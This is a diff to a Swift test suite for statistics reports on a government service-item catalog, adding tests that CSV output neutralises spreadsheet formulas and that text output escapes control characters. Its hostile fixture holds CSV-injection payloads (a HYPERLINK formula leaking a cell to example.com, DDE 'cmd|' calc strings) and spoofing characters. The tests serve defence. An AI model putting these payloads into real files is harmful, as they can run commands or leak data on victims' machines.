@@ -1,12 +1,13 @@
 import Catalog
 import Reports
+import TestSupport
 import Testing
 
 /// Figures checked against a catalog of seven items worked out by hand.
 @Suite struct CatalogStatsTests {
     /// 内控线 1/2; windows 工程类 gc, 经营类 jy, 综合 zh.
     ///
-    /// | item | 类型 | windows | 办件类型 | 法定 → 承诺 | compression | materials (必要 / all / 可共享) |
+    /// | item | 类型 | windows | 办件类型 | 法定 → 承诺 | compression | materials (必要 / all / 可共享; B: 条件 and 容缺后补) |
     /// |---|---|---|---|---|---|---|
     /// | A XK-00001 | 行政许可 | jy, zh | 承诺件 | 20个工作日 → 8个工作日 | 12/20 = 0.6 | 2 / 3 / 1 |
     /// | B XK-00002 | 行政许可 | gc | 承诺件 | 20个工作日 → 12个工作日 | 8/20 = 0.4, over 1/2 | 2 / 3 / 1 |
@@ -82,16 +83,30 @@ import Testing
         // 即办件: C, E; 2 / 7 = 0.2857…
         #expect(stats.immediateItems == 2)
         #expect(abs(stats.immediateShare! - 2.0 / 7) < 1e-12)
-        // 必要 per item: 2, 2, 1, 4, 0, 2, 0 = 11; 11 / 7 = 1.571…; max 4 (D). B's conditional
-        // 必要 material counts.
-        #expect(abs(stats.requiredMaterialsMean! - 11.0 / 7) < 1e-12)
-        #expect(stats.requiredMaterialsMax == 4)
+        // 必要 (unconditional) per item: 2, 1, 1, 4, 0, 2, 0 = 10; 10 / 7 = 1.43; max 4 (D).
+        // B's conditional 必要 material is 条件, its 容缺后补 one 容缺后补.
+        #expect(stats.materials(.required) == .init(.required, total: 10, mean: 10.0 / 7, max: 4))
+        #expect(stats.materials(.conditional) == .init(.conditional, total: 1, mean: 1.0 / 7, max: 1))
+        #expect(stats.materials(.deferrable) == .init(.deferrable, total: 1, mean: 1.0 / 7, max: 1))
+        #expect(stats.materials(.optional) == .init(.optional, total: 2, mean: 2.0 / 7, max: 1))
         // All: 3, 3, 1, 4, 0, 2, 1 = 14; 14 / 7 = 2; max 4.
-        #expect(stats.materialsMean == 2)
-        #expect(stats.materialsMax == 4)
+        #expect(stats.allMaterials == .init(nil, total: 14, mean: 2, max: 4))
         // 可共享: A's second, B's third (容缺后补, still counted), C's only: 3 / 14 = 0.214…
-        #expect(stats.materialsTotal == 14)
         #expect(stats.shareableMaterials == 3)
+    }
+
+    /// Conditional (条件), 容缺后补 and 非必要 materials are not 必要: each class has its own
+    /// figures. 必要 without 条件: A 2, B 1, C 1, D 4, F 2 = 10; 条件: B's 委托 = 1; 容缺后补:
+    /// B's third = 1; 非必要: A's third, G's only = 2; 14 in all.
+    @Test func materialsCountedByClass() {
+        let text = stats.text()
+        #expect(text.contains("  必要材料：平均每个事项 1.4 项，最多 4 项，共 10 项\n"))
+        #expect(text.contains("  条件材料（仅在特定情形下需要）：平均每个事项 0.1 项，最多 1 项，共 1 项\n"))
+        #expect(text.contains("  容缺后补材料：平均每个事项 0.1 项，最多 1 项，共 1 项\n"))
+        #expect(text.contains("  非必要材料：平均每个事项 0.3 项，最多 1 项，共 2 项\n"))
+        #expect(text.contains("  全部材料：平均每个事项 2.0 项，最多 4 项，共 14 项\n"))
+        #expect(stats.json().contains("\"conditional\": {\n      \"total\": 1,\n      \"mean\": 0.1429,\n      \"max\": 1\n    }"))
+        #expect(stats.csv().contains("\r\nmaterials,conditional,total,1\r\n"))
     }
 
     @Test func internalControlLine() {
@@ -106,215 +121,42 @@ import Testing
 
     @Test func emptyCatalogHasNoRatios() {
         let empty = CatalogStats.compute(Catalog(name: "空目录", region: "440100", standards: []))
-        #expect(empty.meanCompression == nil && empty.immediateShare == nil && empty.materialsMean == nil)
+        #expect(empty.meanCompression == nil && empty.immediateShare == nil && empty.allMaterials.mean == nil)
         #expect(empty.text().contains("承诺时限较法定时限平均压缩：无可比较的事项"))
-        #expect(empty.csv().contains("compression_mean,\r\n"))
+        #expect(empty.csv().contains("\r\ncompression,,mean,\r\n"))
         #expect(empty.json().contains("\"mean\": null"))
     }
 
     // MARK: Formats
 
-    @Test func text() {
-        #expect(stats.text() == """
-            《测试目录》统计
-            事项总数：7 项
-
-            一、按事项类型
-              行政许可：3 项
-              行政确认：2 项
-              公共服务：1 项
-              行政备案：1 项
-
-            二、按窗口类别
-              工程类：2 项
-              经营类：4 项
-              公民类：0 项
-              综合：3 项
-              注：在多个类别的窗口受理的事项，在每个类别各计一次（本目录有 2 项）；未指定受理地点的事项 1 项。
-
-            三、办理时限
-              承诺时限较法定时限平均压缩 58.0%（按 5 个可比较的事项计算）
-              工作日：法定合计 50个工作日，承诺合计 20个工作日，压缩 60.0%（3 个事项）
-              自然日：法定合计 40日，承诺合计 21日，压缩 47.5%（2 个事项）
-              即办件：2 项，占 28.6%
-
-            四、申请材料
-              必要材料：平均每个事项 1.6 项，最多 4 项
-              全部材料：平均每个事项 2.0 项，最多 4 项
-              可共享材料：3 项，占全部 14 项材料的 21.4%
-
-            五、内控线
-              内控线：承诺时限不超过法定时限的 1/2
-              超过内控线的事项：2 项
-                440100-XK-00002-001 乙：法定 20个工作日，承诺 12个工作日（60.0%）
-                440100-XK-00007-001 庚：法定 10日，承诺 6日（60.0%）
-
-            """)
+    @Test func text() throws {
+        try expectGolden(stats.text(), file: golden("stats.txt"))
+        try expectGolden(stats.text(language: .en), file: golden("stats.en.txt"))
     }
 
-    @Test func englishText() {
-        #expect(stats.text(language: .en) == """
-            Statistics: 测试目录
-            Items: 7
-
-            1. Items by type (事项类型)
-              行政许可: 3
-              行政确认: 2
-              公共服务: 1
-              行政备案: 1
-
-            2. Items by window category (窗口类别)
-              工程类: 2
-              经营类: 4
-              公民类: 0
-              综合: 3
-              Note: an item accepted at windows of several categories counts once in each (2 items here); 1 item without a window.
-
-            3. Time limits
-              Mean compression of promised against statutory limits: 58.0% (over 5 items where it can be computed)
-              Working days: statutory 50 working days in all, promised 20 working days, compressed by 60.0% (3 items)
-              Calendar days: statutory 40 calendar days in all, promised 21 calendar days, compressed by 47.5% (2 items)
-              Decided on the spot (即办件): 2 items, 28.6%
-
-            4. Materials
-              Required (必要): 1.6 per item on average, at most 4
-              All: 2.0 per item on average, at most 4
-              Shareable (可共享): 3 of 14 materials, 21.4%
-
-            5. Internal control line (内控线)
-              Line: a promise of at most 1/2 of the statutory limit
-              Items over the line: 2
-                440100-XK-00002-001 乙: statutory 20 working days, promised 12 working days (60.0%)
-                440100-XK-00007-001 庚: statutory 10 calendar days, promised 6 calendar days (60.0%)
-
-            """)
+    @Test func json() throws {
+        try expectGolden(stats.json(), file: golden("stats.json"))
     }
 
-    @Test func json() {
-        #expect(stats.json() == """
-            {
-              "version": 1,
-              "catalog": "测试目录",
-              "items": 7,
-              "itemsByType": {
-                "行政许可": 3,
-                "行政确认": 2,
-                "公共服务": 1,
-                "行政备案": 1
-              },
-              "itemsByWindowCategory": {
-                "工程类": 2,
-                "经营类": 4,
-                "公民类": 0,
-                "综合": 3
-              },
-              "itemsInSeveralWindowCategories": 2,
-              "itemsWithoutWindow": 1,
-              "compression": {
-                "items": 5,
-                "mean": 0.58,
-                "workingDays": {
-                  "items": 3,
-                  "statutory": 50,
-                  "promised": 20,
-                  "compression": 0.6
-                },
-                "calendarDays": {
-                  "items": 2,
-                  "statutory": 40,
-                  "promised": 21,
-                  "compression": 0.475
-                }
-              },
-              "immediate": {
-                "items": 2,
-                "share": 0.2857
-              },
-              "materials": {
-                "requiredMean": 1.5714,
-                "requiredMax": 4,
-                "mean": 2,
-                "max": 4,
-                "total": 14,
-                "shareable": 3,
-                "shareableShare": 0.2143
-              },
-              "internalControlLine": "1/2",
-              "overInternalControlLine": [
-                {
-                  "code": "440100-XK-00002-001",
-                  "name": "乙",
-                  "statutory": "20个工作日",
-                  "promised": "12个工作日",
-                  "share": 0.6
-                },
-                {
-                  "code": "440100-XK-00007-001",
-                  "name": "庚",
-                  "statutory": "10日",
-                  "promised": "6日",
-                  "share": 0.6
-                }
-              ],
-              "bundles": []
-            }
-
-            """)
+    @Test func csv() throws {
+        try expectGolden(stats.csv(), file: golden("stats.csv"))
     }
 
-    @Test func csv() {
-        let expected = [
-            "catalog,测试目录",
-            "items,7",
-            "items_by_type,行政许可,3",
-            "items_by_type,行政确认,2",
-            "items_by_type,公共服务,1",
-            "items_by_type,行政备案,1",
-            "items_by_window_category,工程类,2",
-            "items_by_window_category,经营类,4",
-            "items_by_window_category,公民类,0",
-            "items_by_window_category,综合,3",
-            "items_in_several_window_categories,2",
-            "items_without_window,1",
-            "compression_items,5",
-            "compression_mean,0.58",
-            "working_days_items,3",
-            "working_days_statutory,50",
-            "working_days_promised,20",
-            "working_days_compression,0.6",
-            "calendar_days_items,2",
-            "calendar_days_statutory,40",
-            "calendar_days_promised,21",
-            "calendar_days_compression,0.475",
-            "immediate_items,2",
-            "immediate_share,0.2857",
-            "required_materials_mean,1.5714",
-            "required_materials_max,4",
-            "materials_mean,2",
-            "materials_max,4",
-            "materials_total,14",
-            "shareable_materials,3",
-            "shareable_share,0.2143",
-            "internal_control_line,1/2",
-            "items_over_internal_control_line,2",
-            "over_internal_control_line,440100-XK-00002-001,乙",
-            "over_internal_control_line,440100-XK-00007-001,庚",
-            "bundles,0",
-            "bundle_materials_saved,0",
-        ]
-        #expect(stats.csv() == expected.map { $0 + "\r\n" }.joined())
+    /// The catalog with one 并联 bundle of two members that take 7 working days one by one.
+    static func withBundle(code: String, name: String, promised: Int, materialsBefore: Int, after: Int) -> Catalog {
+        var catalog = CatalogStatsTests.catalog
+        var bundle = ServiceBundle(code: code, name: name, mode: .parallel,
+            stages: [BundleStage(itemCodes: ["a", "b"])], leadAgencyID: "x", windowCategory: .comprehensive,
+            promised: .workingDays(promised))
+        bundle.figures = BundleFigures(oneByOne: FlowPath(steps: ["a", "b"], workingDays: 7, calendarDays: 0),
+                                       materialsBeforeMerge: materialsBefore, materialsAfterMerge: after)
+        catalog.bundles = [bundle]
+        return catalog
     }
 
     @Test func bundlesReportWhatTheySave() {
-        var catalog = CatalogStatsTests.catalog
-        var bundle = ServiceBundle(code: "440100-YJS-001", name: "一件事", mode: .parallel,
-            stages: [BundleStage(itemCodes: ["a", "b"])], leadAgencyID: "x", windowCategory: .comprehensive,
-            promised: .workingDays(5))
         // Members promising 3 and 4 working days, 5 and 4 materials, 2 of them the same.
-        bundle.figures = BundleFigures(oneByOne: FlowPath(steps: ["a", "b"], workingDays: 7, calendarDays: 0),
-                                       materialsBeforeMerge: 9, materialsAfterMerge: 7)
-        catalog.bundles = [bundle]
-        let stats = CatalogStats.compute(catalog)
+        let stats = CatalogStats.compute(Self.withBundle(code: "440100-YJS-001", name: "一件事", promised: 5, materialsBefore: 9, after: 7))
         #expect(stats.bundles.first?.saved == .workingDays(2))
         #expect(stats.text().hasSuffix("""
 
@@ -323,13 +165,81 @@ import Testing
               440100-YJS-001 一件事（并联，2 个事项）：材料 9 项合并为 7 项，少交 2 项；逐项办理 7个工作日，一件事承诺 5个工作日，节省 2个工作日
 
             """))
-        #expect(stats.csv().hasSuffix("bundles,1\r\nbundle_materials_saved,2\r\nbundle,440100-YJS-001,一件事,9,7,2\r\n"))
+        #expect(stats.text(language: .en).hasSuffix("""
+
+            6. Bundles (一件事)
+              Bundles: 1
+              440100-YJS-001 一件事 (并联, 2 items): materials 9 merged into 7, 2 fewer; one by one 7 working days, promised 5 working days, 2 working days saved
+
+            """))
+        #expect(stats.csv().contains("bundles,,materials_saved,2\r\n"))
+        #expect(stats.csv().hasSuffix("bundle,440100-YJS-001,days_saved,2\r\n"))
         #expect(stats.json().contains("\"daysSaved\": 2"))
     }
 
     @Test func csvQuotesPerRFC4180() {
         var catalog = CatalogStatsTests.catalog
-        catalog.name = "目录,含\"逗号\"和引号"
-        #expect(CatalogStats.compute(catalog).csv().hasPrefix("catalog,\"目录,含\"\"逗号\"\"和引号\"\r\n"))
+        catalog.name = "目录,含\"逗号\"和引号\n换行"
+        #expect(CatalogStats.compute(catalog).csv().contains("\r\ncatalog,,name,\"目录,含\"\"逗号\"\"和引号\n换行\"\r\n"))
+    }
+
+    /// A catalog whose text a spreadsheet would run as formulas (OWASP, CSV injection).
+    static let hostile: Catalog = {
+        var catalog = withBundle(code: "=1+1", name: "一件事,\"引号\"", promised: 9, materialsBefore: 3, after: 3)
+        catalog.name = "=HYPERLINK(\"http://example.com/?\"&A1,\"点击\")"
+        catalog.items[1].name = "+1+cmd|' /C calc'!A0"     // B, over the line
+        catalog.items[6].name = "-2+3"                      // G, over the line
+        catalog.items[0].type = "@SUM(1+1)*cmd|' /C calc'!A0"
+        catalog.items[3].type = "\t=1+1"
+        catalog.items[4].type = "\r=1+1"
+        return catalog
+    }()
+
+    /// Every cell a spreadsheet would take for a formula starts with `'` inside quotes; numbers
+    /// (a negative days saved among them) stay numbers.
+    @Test func csvNeutralisesFormulas() throws {
+        try expectGolden(CatalogStats.compute(Self.hostile).csv(), file: golden("stats-hostile.csv"))
+    }
+
+    /// Python's csv module reads a header and the same number of cells on every row, and gets
+    /// back each catalog text with only the `'` in front.
+    @Test func csvParsesAsOneTable() throws {
+        let file = try makeFolder(.text(["stats.csv": CatalogStats.compute(Self.hostile).csv()])) + "/stats.csv"
+        let r = try runPython(["-c", """
+            import csv, json, sys
+            rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8')))
+            show = lambda x: print(json.dumps(x, ensure_ascii=False))
+            show(rows[0])
+            show(sorted(set(len(r) for r in rows)))
+            for r in rows:
+                for cell in r:
+                    if cell[:1] in ('=', '+', '-', '@', '\\t', '\\r') and not cell.lstrip('-').isdigit():
+                        show(['formula', cell])
+            show([r[3] for r in rows if r[2] == 'name'])
+            show([r[1] for r in rows if r[0] == 'items_by_type'])
+            show([r[3] for r in rows if r[2] == 'days_saved'])
+            """, file])
+        #expect(r.status == 0, "\(r.stderr)")
+        #expect(r.stdout == #"""
+            ["section", "subject", "measure", "value"]
+            [4]
+            ["'=HYPERLINK(\"http://example.com/?\"&A1,\"点击\")", "'+1+cmd|' /C calc'!A0", "'-2+3", "一件事,\"引号\""]
+            ["行政许可", "公共服务", "'\t=1+1", "'\r=1+1", "'@SUM(1+1)*cmd|' /C calc'!A0", "行政备案"]
+            ["-2"]
+
+            """#)
+    }
+
+    @Test func controlCharactersAreShownAsEscapes() throws {
+        var catalog = Self.hostile
+        catalog.name = "测试目录\n\n一、按事项类型\n  行政许可：999 项\u{1B}[2J"
+        catalog.items[1].name = "乙\u{202E}txt.exe\u{9B}31m"
+        catalog.items[6].name = "庚\u{2029}    440100-XK-99999-001 伪造"
+        catalog.bundles[0].name = "一件事\u{2067}\u{0}"
+        let stats = CatalogStats.compute(catalog)
+        for (text, name) in [(stats.text(), "stats-hostile.txt"), (stats.text(language: .en), "stats-hostile.en.txt")] {
+            try expectGolden(text, file: golden(name))
+            expectOneLineEach(text)
+        }
     }
 }
